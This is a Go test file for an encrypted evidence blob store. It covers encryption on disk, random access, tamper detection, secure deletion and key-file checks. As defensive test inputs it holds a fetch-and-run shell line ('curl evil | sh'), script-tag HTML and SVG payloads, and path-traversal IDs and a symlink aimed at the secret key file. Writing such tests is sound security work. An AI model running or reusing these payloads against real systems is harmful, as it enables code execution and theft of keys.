package blob

import (
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/hex"
	"errors"
	"fmt"
	"io"
	"io/fs"
	"math/rand/v2"
	"os"
	"path/filepath"
	"runtime"
	"strings"
	"sync"
	"testing"
	"testing/iotest"
	"time"

	"filippo.io/age"
)

const testMax = 64 << 20

func newStore(t testing.TB) (*Store, string) {
	t.Helper()
	dir := t.TempDir()
	s, err := Open(dir)
	if err != nil {
		t.Fatalf("Open: %v", err)
	}
	t.Cleanup(func() { s.Close() })
	return s, dir
}

func put(t testing.TB, s *Store, data []byte) Blob {
	t.Helper()
	b, err := s.Put(context.Background(), bytes.NewReader(data), testMax)
	if err != nil {
		t.Fatalf("Put: %v", err)
	}
	return b
}

func readAll(t testing.TB, s *Store, id string) []byte {
	t.Helper()
	r, err := s.Open(id)
	if err != nil {
		t.Fatalf("Open(%s): %v", id, err)
	}
	defer r.Close()
	got, err := io.ReadAll(r)
	if err != nil {
		t.Fatalf("read %s: %v", id, err)
	}
	return got
}

func sha256Hex(b []byte) string {
	sum := sha256.Sum256(b)
	return hex.EncodeToString(sum[:])
}

// evidenceFiles lists every file under dataDir/evidence, relative to it.
func evidenceFiles(t testing.TB, dataDir string) []string {
	t.Helper()
	var files []string
	root := filepath.Join(dataDir, "evidence")
	err := filepath.WalkDir(root, func(path string, d fs.DirEntry, err error) error {
		if err != nil {
			return err
		}
		if !d.IsDir() {
			rel, _ := filepath.Rel(root, path)
			files = append(files, rel)
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	return files
}

func blobFile(dataDir, id string) string {
	return filepath.Join(dataDir, "evidence", id[:2], id)
}

func TestRoundTrip(t *testing.T) {
	s, dir := newStore(t)
	tests := []struct {
		name      string
		data      []byte
		mediaType string
	}{
		{"png", pngFile(t), "image/png"},
		{"jpeg", jpegFile(t), "image/jpeg"},
		{"wav", wavFile(10_000), "audio/wav"},
		{"mp3", mp3File(), "audio/mpeg"},
		{"m4a", ftypFile("M4A "), "audio/mp4"},
		{"mp4", ftypFile("isom"), "video/mp4"},
		{"mov", ftypFile("qt  "), "video/quicktime"},
		{"webm", webmFile(), "video/webm"},
		{"pdf", pdfFile(), "application/pdf"},
		{"utf-8 text", utf8Text(), "text/plain; charset=utf-8"},
		{"shift_jis text", sjisText(t), "text/plain; charset=shift_jis"},
		{"long utf-8 text", bytes.Repeat(utf8Text(), 200), "text/plain; charset=utf-8"},
		// The charset is decided by the whole file, not by the sniffed head.
		{"ascii head then shift_jis", append(bytes.Repeat([]byte("call log, no names\n"), 500), sjisText(t)...), "text/plain; charset=shift_jis"},
		{"one byte", []byte("a"), "text/plain; charset=utf-8"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			b := put(t, s, tt.data)
			if !validID(b.ID) {
				t.Errorf("ID = %q, not 32 hex digits", b.ID)
			}
			if b.Size != int64(len(tt.data)) {
				t.Errorf("Size = %d, want %d", b.Size, len(tt.data))
			}
			if want := sha256Hex(tt.data); b.SHA256 != want {
				t.Errorf("SHA256 = %s, want %s", b.SHA256, want)
			}
			if b.MediaType != tt.mediaType {
				t.Errorf("MediaType = %q, want %q", b.MediaType, tt.mediaType)
			}
			if got := readAll(t, s, b.ID); !bytes.Equal(got, tt.data) {
				t.Errorf("read back %d bytes, differ from the %d put", len(got), len(tt.data))
			}
			if err := s.Verify(b.ID, b.SHA256); err != nil {
				t.Errorf("Verify: %v", err)
			}

			raw, err := os.ReadFile(blobFile(dir, b.ID))
			if err != nil {
				t.Fatal(err)
			}
			if !bytes.HasPrefix(raw, []byte("age-encryption.org/v1\n")) {
				t.Errorf("file on disk does not start with the age header")
			}
			if bytes.Contains(raw, []byte(marker)) {
				t.Errorf("file on disk contains the plaintext marker")
			}
			if len(tt.data) >= 16 && bytes.Contains(raw, tt.data[:16]) {
				t.Errorf("file on disk contains the plaintext's first 16 bytes")
			}
			info, err := os.Stat(blobFile(dir, b.ID))
			if err != nil {
				t.Fatal(err)
			}
			if perm := info.Mode().Perm(); perm&0o077 != 0 {
				t.Errorf("blob file mode = %04o, want no group/other access", perm)
			}
		})
	}
	if files := evidenceFiles(t, dir); len(files) != len(tests) {
		t.Errorf("evidence holds %d files, want %d: %v", len(files), len(tests), files)
	}
}

func TestRandomAccess(t *testing.T) {
	s, _ := newStore(t)
	data := wavFile(300 << 10) // five age chunks
	b := put(t, s, data)
	r, err := s.Open(b.ID)
	if err != nil {
		t.Fatal(err)
	}
	defer r.Close()
	if r.Size() != int64(len(data)) {
		t.Fatalf("Size = %d, want %d", r.Size(), len(data))
	}

	const chunk = 64 << 10
	size := int64(len(data))
	tests := []struct {
		name string
		off  int64
		n    int
	}{
		{"header", 0, 44},
		{"last byte of chunk 0", chunk - 1, 1},
		{"first byte of chunk 1", chunk, 1},
		{"across first boundary", chunk - 10, 20},
		{"across two boundaries", 2*chunk - 100, chunk + 200},
		{"whole chunk 3", 3 * chunk, chunk},
		{"back to chunk 0", 1000, 5000},
		{"tail", size - 5, 5},
	}
	for _, tt := range tests {
		got := make([]byte, tt.n)
		n, err := r.ReadAt(got, tt.off)
		if err != nil && !(errors.Is(err, io.EOF) && tt.off+int64(tt.n) == size) {
			t.Errorf("%s: ReadAt(%d, %d): %v", tt.name, tt.n, tt.off, err)
			continue
		}
		if n != tt.n || !bytes.Equal(got, data[tt.off:tt.off+int64(tt.n)]) {
			t.Errorf("%s: ReadAt(%d, %d) = %d bytes, differ from the plaintext", tt.name, tt.n, tt.off, n)
		}
	}

	// Past the end: a short read and io.EOF.
	got := make([]byte, 10)
	if n, err := r.ReadAt(got, size-1); n != 1 || err != io.EOF || got[0] != data[size-1] {
		t.Errorf("ReadAt at end = %d, %v; want 1, io.EOF", n, err)
	}

	// Seek and Read share a position.
	if pos, err := r.Seek(-100, io.SeekEnd); err != nil || pos != size-100 {
		t.Fatalf("Seek = %d, %v", pos, err)
	}
	rest, err := io.ReadAll(r)
	if err != nil || !bytes.Equal(rest, data[size-100:]) {
		t.Errorf("read after Seek = %d bytes, %v", len(rest), err)
	}
	if _, err := r.Seek(chunk+3, io.SeekStart); err != nil {
		t.Fatal(err)
	}
	got = make([]byte, 7)
	if _, err := io.ReadFull(r, got); err != nil || !bytes.Equal(got, data[chunk+3:chunk+10]) {
		t.Errorf("read after SeekStart = %x, %v", got, err)
	}

	// Odd-sized sequential reads cross every chunk boundary.
	r.Seek(0, io.SeekStart)
	var seq bytes.Buffer
	if _, err := io.CopyBuffer(&seq, onlyReader{r}, make([]byte, 1000)); err != nil || !bytes.Equal(seq.Bytes(), data) {
		t.Errorf("sequential 1000-byte reads: %d bytes, %v", seq.Len(), err)
	}

	// The standard conformance test for Read, ReadAt and Seek, on three
	// chunks (it reads byte by byte, which costs a chunk decryption per
	// ReadAt).
	small := wavFile(2*chunk + 1000)
	r2, err := s.Open(put(t, s, small).ID)
	if err != nil {
		t.Fatal(err)
	}
	defer r2.Close()
	if err := iotest.TestReader(r2, small); err != nil {
		t.Errorf("iotest.TestReader: %v", err)
	}

	// ReadAt may be used concurrently.
	var wg sync.WaitGroup
	errs := make(chan error, 4)
	for g := range 4 {
		wg.Go(func() {
			rng := rand.New(rand.NewPCG(uint64(g), 1))
			for range 50 {
				off := rng.Int64N(size - 1000)
				p := make([]byte, 1000)
				if _, err := r.ReadAt(p, off); err != nil && err != io.EOF {
					errs <- err
					return
				}
				if !bytes.Equal(p, data[off:off+1000]) {
					errs <- fmt.Errorf("concurrent ReadAt at %d differs", off)
					return
				}
			}
		})
	}
	wg.Wait()
	close(errs)
	for err := range errs {
		t.Error(err)
	}
}

func TestPutRefusesUnsupported(t *testing.T) {
	s, dir := newStore(t)
	self, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	exe, err := os.Open(self)
	if err != nil {
		t.Fatal(err)
	}
	defer exe.Close()

	tests := []struct {
		name string
		r    io.Reader
	}{
		// Names play no part: Put never sees one. These stand for an
		// executable uploaded as "recording.mp3".
		{"this test binary (a real ELF)", exe},
		{"elf header", bytes.NewReader(elfFile())},
		{"windows exe", bytes.NewReader(peFile())},
		{"html", strings.NewReader("<!doctype html><script>alert(1)</script>")},
		{"svg", strings.NewReader(`<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>`)},
		{"shell script", strings.NewReader("#!/bin/bash\ncurl evil | sh\n")},
		{"zip", bytes.NewReader(zipFile(t, "word/document.xml"))},
		// A text head of more than sniffLen bytes followed by binary is
		// refused while streaming.
		{"text then binary", io.MultiReader(strings.NewReader(strings.Repeat("ふつうのメモ。\n", 1000)), bytes.NewReader(elfFile()))},
		{"text then latin-1", io.MultiReader(strings.NewReader(strings.Repeat("plain ascii line\n", 1000)), strings.NewReader("caf\xE9 \xFF"))},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			b, err := s.Put(context.Background(), tt.r, testMax)
			if !errors.Is(err, ErrUnsupportedType) {
				t.Fatalf("Put = %+v, %v; want ErrUnsupportedType", b, err)
			}
			if !strings.HasPrefix(err.Error(), "blob: put: ") {
				t.Errorf("error %q lacks the operation", err)
			}
			if files := evidenceFiles(t, dir); len(files) != 0 {
				t.Errorf("files left behind: %v", files)
			}
		})
	}
}

func TestPutLimits(t *testing.T) {
	s, dir := newStore(t)
	data := wavFile(300 << 10)

	tests := []struct {
		name    string
		data    []byte
		max     int64
		wantErr error
	}{
		{"limit inside the sniffed head", data, 100, ErrTooLarge},
		{"limit after many chunks", data, 200 << 10, ErrTooLarge},
		{"one byte over", data, int64(len(data)) - 1, ErrTooLarge},
		{"empty", nil, testMax, ErrEmpty},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			_, err := s.Put(context.Background(), bytes.NewReader(tt.data), tt.max)
			if !errors.Is(err, tt.wantErr) {
				t.Fatalf("Put: %v, want %v", err, tt.wantErr)
			}
			if files := evidenceFiles(t, dir); len(files) != 0 {
				t.Errorf("files left behind: %v", files)
			}
		})
	}

	b, err := s.Put(context.Background(), bytes.NewReader(data), int64(len(data)))
	if err != nil {
		t.Fatalf("Put of exactly maxBytes: %v", err)
	}
	if b.Size != int64(len(data)) {
		t.Errorf("Size = %d, want %d", b.Size, len(data))
	}
	if _, err := s.Put(context.Background(), bytes.NewReader(data), 0); err == nil {
		t.Error("Put with maxBytes 0 succeeded")
	}
}

// cancelAfter cancels its context once n bytes have been read.
type cancelAfter struct {
	r      io.Reader
	n      int
	cancel context.CancelFunc
}

func (c *cancelAfter) Read(p []byte) (int, error) {
	n, err := c.r.Read(p)
	c.n -= n
	if c.n <= 0 {
		c.cancel()
	}
	return n, err
}

func TestPutCancelled(t *testing.T) {
	s, dir := newStore(t)
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	r := &cancelAfter{r: bytes.NewReader(wavFile(1 << 20)), n: 200 << 10, cancel: cancel}
	if _, err := s.Put(ctx, r, testMax); !errors.Is(err, context.Canceled) {
		t.Fatalf("Put: %v, want context.Canceled", err)
	}
	if files := evidenceFiles(t, dir); len(files) != 0 {
		t.Errorf("files left behind: %v", files)
	}
	if _, err := s.Put(ctx, bytes.NewReader(pngFile(t)), testMax); !errors.Is(err, context.Canceled) {
		t.Errorf("Put with a cancelled context: %v, want context.Canceled", err)
	}
}

// wavStream generates a WAV file of n sample bytes without holding it,
// hashing what it yields and sampling the heap as it goes.
type wavStream struct {
	header   []byte
	pos, n   int64
	hash     hash256
	samples  int
	peakHeap uint64
}

type hash256 interface {
	io.Writer
	Sum([]byte) []byte
}

func newWAVStream(n int64) *wavStream {
	return &wavStream{header: wavHeader(int(n)), n: n, hash: sha256.New()}
}

func (w *wavStream) Read(p []byte) (int, error) {
	if len(w.header) > 0 {
		k := copy(p, w.header)
		w.header = w.header[k:]
		w.hash.Write(p[:k])
		return k, nil
	}
	if w.pos >= w.n {
		return 0, io.EOF
	}
	k := int(min(int64(len(p)), w.n-w.pos))
	for i := range k {
		p[i] = sample(w.pos + int64(i))
	}
	// Sample the heap every 4 MiB.
	if w.pos/(4<<20) != (w.pos+int64(k))/(4<<20) {
		var m runtime.MemStats
		runtime.ReadMemStats(&m)
		w.peakHeap = max(w.peakHeap, m.HeapInuse)
		w.samples++
	}
	w.pos += int64(k)
	w.hash.Write(p[:k])
	return k, nil
}

func TestInvalidIDs(t *testing.T) {
	s, _ := newStore(t)
	ids := []string{
		"", "../x", "a/b", "..", ".", "/etc/passwd",
		"../keys/evidence.age-key",
		"0123456789abcdef0123456789abcde",   // 31
		"0123456789abcdef0123456789abcdef0", // 33
		"0123456789ABCDEF0123456789ABCDEF",  // upper case
		"0123456789abcdef0123456789abcdeg",
		"01/3456789abcdef0123456789abcdef",
		"0123456789abcdef0123456789abcd\x00f",
	}
	for _, id := range ids {
		if _, err := s.Open(id); !errors.Is(err, ErrInvalidID) {
			t.Errorf("Open(%q): %v, want ErrInvalidID", id, err)
		}
		if err := s.Delete(id); !errors.Is(err, ErrInvalidID) {
			t.Errorf("Delete(%q): %v, want ErrInvalidID", id, err)
		}
		if err := s.Verify(id, strings.Repeat("0", 64)); !errors.Is(err, ErrInvalidID) {
			t.Errorf("Verify(%q): %v, want ErrInvalidID", id, err)
		}
	}
	unknown := strings.Repeat("ab", 16)
	if _, err := s.Open(unknown); !errors.Is(err, ErrNotFound) {
		t.Errorf("Open(unknown): %v, want ErrNotFound", err)
	}
	if err := s.Delete(unknown); !errors.Is(err, ErrNotFound) || !errors.Is(err, fs.ErrNotExist) {
		t.Errorf("Delete(unknown): %v, want ErrNotFound, which is fs.ErrNotExist", err)
	}
	if err := s.Verify(unknown, strings.Repeat("0", 64)); !errors.Is(err, ErrNotFound) {
		t.Errorf("Verify(unknown): %v, want ErrNotFound", err)
	}
}

func TestSymlinkCannotEscape(t *testing.T) {
	s, dir := newStore(t)
	id := strings.Repeat("cd", 16)
	shard := filepath.Join(dir, "evidence", id[:2])
	if err := os.Mkdir(shard, 0o700); err != nil {
		t.Fatal(err)
	}
	// A link planted in the evidence directory that points at the key.
	if err := os.Symlink("../../keys/evidence.age-key", filepath.Join(shard, id)); err != nil {
		t.Fatal(err)
	}
	if r, err := s.Open(id); err == nil {
		r.Close()
		t.Fatal("Open followed a symlink out of the evidence directory")
	}
	if err := s.Delete(id); err == nil {
		t.Fatal("Delete followed a symlink out of the evidence directory")
	}
	key, err := os.ReadFile(filepath.Join(dir, "keys", "evidence.age-key"))
	if err != nil || !bytes.Contains(key, []byte("AGE-SECRET-KEY-")) {
		t.Fatalf("key file damaged: %v", err)
	}
}

func TestDelete(t *testing.T) {
	s, dir := newStore(t)
	data := wavFile(150 << 10)
	b := put(t, s, data)
	// A second link to the same inode shows what Delete wrote before it
	// removed the name.
	witness := filepath.Join(dir, "witness")
	if err := os.Link(blobFile(dir, b.ID), witness); err != nil {
		t.Fatal(err)
	}
	before, err := os.ReadFile(witness)
	if err != nil {
		t.Fatal(err)
	}

	if err := s.Delete(b.ID); err != nil {
		t.Fatalf("Delete: %v", err)
	}
	after, err := os.ReadFile(witness)
	if err != nil {
		t.Fatal(err)
	}
	if len(after) != len(before) {
		t.Errorf("overwritten file has %d bytes, want %d", len(after), len(before))
	}
	if i := bytes.IndexFunc(after, func(r rune) bool { return r != 0 }); i >= 0 {
		t.Errorf("byte %d not zeroed after Delete", i)
	}
	if _, err := os.Stat(blobFile(dir, b.ID)); !errors.Is(err, fs.ErrNotExist) {
		t.Errorf("blob file still exists: %v", err)
	}
	if _, err := s.Open(b.ID); !errors.Is(err, ErrNotFound) {
		t.Errorf("Open after Delete: %v, want ErrNotFound", err)
	}
	if err := s.Delete(b.ID); !errors.Is(err, ErrNotFound) {
		t.Errorf("second Delete: %v, want ErrNotFound", err)
	}
}

func TestVerifyAndTampering(t *testing.T) {
	s, dir := newStore(t)
	data := wavFile(300 << 10)
	b := put(t, s, data)

	if err := s.Verify(b.ID, b.SHA256); err != nil {
		t.Fatalf("Verify: %v", err)
	}
	if err := s.Verify(b.ID, strings.ToUpper(b.SHA256)); err != nil {
		t.Errorf("Verify with upper-case hex: %v", err)
	}
	if err := s.Verify(b.ID, sha256Hex([]byte("other"))); !errors.Is(err, ErrCorrupt) {
		t.Errorf("Verify with another hash: %v, want ErrCorrupt", err)
	}
	if err := s.Verify(b.ID, "xyz"); err == nil || errors.Is(err, ErrCorrupt) {
		t.Errorf("Verify with a malformed hash: %v, want a usage error", err)
	}

	// Flip one byte in the third chunk of ciphertext.
	path := blobFile(dir, b.ID)
	raw, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	const chunk = 64 << 10
	tampered := bytes.Clone(raw)
	tampered[len(raw)-3*chunk] ^= 0x01
	if err := os.WriteFile(path, tampered, 0o600); err != nil {
		t.Fatal(err)
	}
	if err := s.Verify(b.ID, b.SHA256); !errors.Is(err, ErrCorrupt) {
		t.Errorf("Verify of a tampered file: %v, want ErrCorrupt", err)
	}
	r, err := s.Open(b.ID)
	if err != nil {
		t.Fatalf("Open of a file tampered in the middle: %v", err)
	}
	// Untouched chunks still read; the tampered one fails.
	head := make([]byte, 100)
	if _, err := r.ReadAt(head, 0); err != nil || !bytes.Equal(head, data[:100]) {
		t.Errorf("ReadAt of an intact chunk: %v", err)
	}
	if _, err := io.ReadAll(r); !errors.Is(err, ErrCorrupt) {
		t.Errorf("reading the tampered chunk: %v, want ErrCorrupt", err)
	}
	r.Close()

	// A truncated file fails when opened: the last chunk authenticates the size.
	if err := os.WriteFile(path, raw[:len(raw)-1000], 0o600); err != nil {
		t.Fatal(err)
	}
	if _, err := s.Open(b.ID); !errors.Is(err, ErrCorrupt) {
		t.Errorf("Open of a truncated file: %v, want ErrCorrupt", err)
	}
}

func TestReopenReadsEarlierFiles(t *testing.T) {
	dir := t.TempDir()
	s1, err := Open(dir)
	if err != nil {
		t.Fatal(err)
	}
	data := wavFile(100 << 10)
	b := put(t, s1, data)
	if err := s1.Close(); err != nil {
		t.Fatal(err)
	}
	keyPath := filepath.Join(dir, "keys", "evidence.age-key")
	key1, err := os.ReadFile(keyPath)
	if err != nil {
		t.Fatal(err)
	}

	s2, err := Open(dir)
	if err != nil {
		t.Fatalf("second Open: %v", err)
	}
	defer s2.Close()
	if got := readAll(t, s2, b.ID); !bytes.Equal(got, data) {
		t.Error("second store reads different bytes")
	}
	if err := s2.Verify(b.ID, b.SHA256); err != nil {
		t.Error(err)
	}
	key2, _ := os.ReadFile(keyPath)
	if !bytes.Equal(key1, key2) {
		t.Error("second Open changed the key file")
	}
}

func TestKeyFile(t *testing.T) {
	dir := t.TempDir()
	s, err := Open(dir)
	if err != nil {
		t.Fatal(err)
	}
	s.Close()
	keyPath := filepath.Join(dir, "keys", "evidence.age-key")
	for _, tt := range []struct {
		path string
		mode os.FileMode
	}{
		{keyPath, 0o600},
		{filepath.Join(dir, "keys"), 0o700 | fs.ModeDir},
		{filepath.Join(dir, "evidence"), 0o700 | fs.ModeDir},
	} {
		info, err := os.Stat(tt.path)
		if err != nil {
			t.Fatal(err)
		}
		// The umask may only take bits away.
		if got := info.Mode(); got&^tt.mode != 0 || got&0o600 != 0o600 {
			t.Errorf("%s: mode %s, want %s", tt.path, got, tt.mode)
		}
	}
	good, err := os.ReadFile(keyPath)
	if err != nil {
		t.Fatal(err)
	}
	ids, err := age.ParseIdentities(bytes.NewReader(good))
	if err != nil || len(ids) != 1 {
		t.Fatalf("key file does not hold one age identity: %v", err)
	}

	other, _ := age.GenerateX25519Identity()
	tests := []struct {
		name    string
		prepare func(t *testing.T)
		wantMsg string
	}{
		{"readable by group", func(t *testing.T) { os.Chmod(keyPath, 0o640) }, "chmod 600"},
		{"readable by others", func(t *testing.T) { os.Chmod(keyPath, 0o604) }, "chmod 600"},
		{"empty", func(t *testing.T) { os.WriteFile(keyPath, nil, 0o600) }, "malformed"},
		{"not a key", func(t *testing.T) { os.WriteFile(keyPath, []byte("hunter2\n"), 0o600) }, "malformed"},
		{"two keys", func(t *testing.T) {
			os.WriteFile(keyPath, fmt.Appendf(nil, "%s\n%s\n", other, other), 0o600)
		}, "2 identities"},
		{"a directory", func(t *testing.T) {
			os.Remove(keyPath)
			os.Mkdir(keyPath, 0o700)
		}, "not a regular file"},
		{"a symlink", func(t *testing.T) {
			elsewhere := filepath.Join(dir, "elsewhere.key")
			os.WriteFile(elsewhere, good, 0o600)
			os.Remove(keyPath)
			os.Symlink(elsewhere, keyPath)
		}, "not a regular file"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			os.RemoveAll(keyPath)
			if err := os.WriteFile(keyPath, good, 0o600); err != nil {
				t.Fatal(err)
			}
			tt.prepare(t)
			s, err := Open(dir)
			if err == nil {
				s.Close()
				t.Fatal("Open succeeded")
			}
			if !strings.Contains(err.Error(), tt.wantMsg) || !strings.Contains(err.Error(), keyPath) {
				t.Errorf("error %q does not name the key file and %q", err, tt.wantMsg)
			}
		})
	}

	os.RemoveAll(keyPath)
	if err := os.WriteFile(keyPath, good, 0o600); err != nil {
		t.Fatal(err)
	}
	s, err = Open(dir)
	if err != nil {
		t.Fatalf("Open with the key restored: %v", err)
	}
	s.Close()
}

func TestMissingKeyWithEvidence(t *testing.T) {
	dir := t.TempDir()
	s, err := Open(dir)
	if err != nil {
		t.Fatal(err)
	}
	b := put(t, s, pngFile(t))
	s.Close()
	keyPath := filepath.Join(dir, "keys", "evidence.age-key")
	good, _ := os.ReadFile(keyPath)

	os.Remove(keyPath)
	if s, err := Open(dir); err == nil || !strings.Contains(err.Error(), "restore the key from backup") {
		if s != nil {
			s.Close()
		}
		t.Fatalf("Open without the key: %v, want a refusal", err)
	}
	if _, err := os.Stat(keyPath); !errors.Is(err, fs.ErrNotExist) {
		t.Errorf("a new key was written: %v", err)
	}

	// Another valid key starts, but the old files are not corrupt: they are
	// encrypted to a different key.
	other, _ := age.GenerateX25519Identity()
	os.WriteFile(keyPath, []byte(other.String()+"\n"), 0o600)
	s, err = Open(dir)
	if err != nil {
		t.Fatal(err)
	}
	_, err = s.Open(b.ID)
	var noMatch *age.NoIdentityMatchError
	if !errors.As(err, &noMatch) || errors.Is(err, ErrCorrupt) {
		t.Errorf("Open with the wrong key: %v, want NoIdentityMatchError and not ErrCorrupt", err)
	}
	s.Close()

	os.WriteFile(keyPath, good, 0o600)
	s, err = Open(dir)
	if err != nil {
		t.Fatal(err)
	}
	defer s.Close()
	if err := s.Verify(b.ID, b.SHA256); err != nil {
		t.Errorf("Verify with the key restored: %v", err)
	}
}

func TestOpenRemovesStaleUploads(t *testing.T) {
	s, dir := newStore(t)
	s.Close()
	tmp := filepath.Join(dir, "evidence", "tmp")
	stale, fresh := filepath.Join(tmp, "stale"), filepath.Join(tmp, "fresh")
	os.WriteFile(stale, []byte("x"), 0o600)
	os.WriteFile(fresh, []byte("x"), 0o600)
	old := time.Now().Add(-48 * time.Hour)
	if err := os.Chtimes(stale, old, old); err != nil {
		t.Fatal(err)
	}
	s, err := Open(dir)
	if err != nil {
		t.Fatal(err)
	}
	defer s.Close()
	if _, err := os.Stat(stale); !errors.Is(err, fs.ErrNotExist) {
		t.Errorf("stale upload kept: %v", err)
	}
	if _, err := os.Stat(fresh); err != nil {
		t.Errorf("recent upload removed: %v", err)
	}
}
